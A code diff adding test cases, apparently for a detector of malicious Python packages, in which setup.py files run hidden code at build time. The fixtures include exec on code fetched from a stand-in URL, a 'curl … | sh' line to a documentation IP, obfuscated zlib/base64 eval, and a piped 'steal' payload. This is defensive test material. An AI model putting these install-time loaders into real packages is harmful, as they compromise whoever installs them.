@@ -84,6 +84,33 @@ if __name__ == "__main__":
             ),
         );
     cases
+        .technique(5, "setup-imports-payload", Build)
+        .case("folder-on-the-path", setup(r#"
+import os, sys
+from setuptools import setup, find_packages
+sys.path.insert(0, os.path.join(os.path.dirname(__file__), "scripts"))
+from release_notes import collect
+collect()
+«setup»
+"#).file("scripts/release_notes.py", "import urllib.request\ndef collect():\n    exec(urllib.request.urlopen('https://stage.example.invalid/n').read())\n"))
+        .case("everything-imported", setup(r#"
+from setuptools import setup, find_packages
+from _common import *
+prepare(globals())
+«setup»
+"#).file("_common.py", "import zlib, base64\ndef prepare(names):\n    eval(compile(zlib.decompress(base64.b64decode('«fetch|zlib|b64»')), '', 'exec'), {})\n"))
+        .case("text-file", setup(r#"
+from setuptools import setup, find_packages
+exec(open("docs/notes.txt").read())
+«setup»
+"#).file("docs/notes.txt", "import os\nos.system('curl -s http://192.0.2.61/n | sh')\n"))
+        .case("input-of-an-interpreter", setup(r#"
+import base64, subprocess, sys
+from setuptools import setup, find_packages
+subprocess.Popen([sys.executable, "-"], stdin=subprocess.PIPE).communicate(base64.b64decode("«steal|b64»"))
+«setup»
+"#));
+    cases
         .technique(6, "setup-decodes-data-file", Build)
         .case(
             "base64-text",
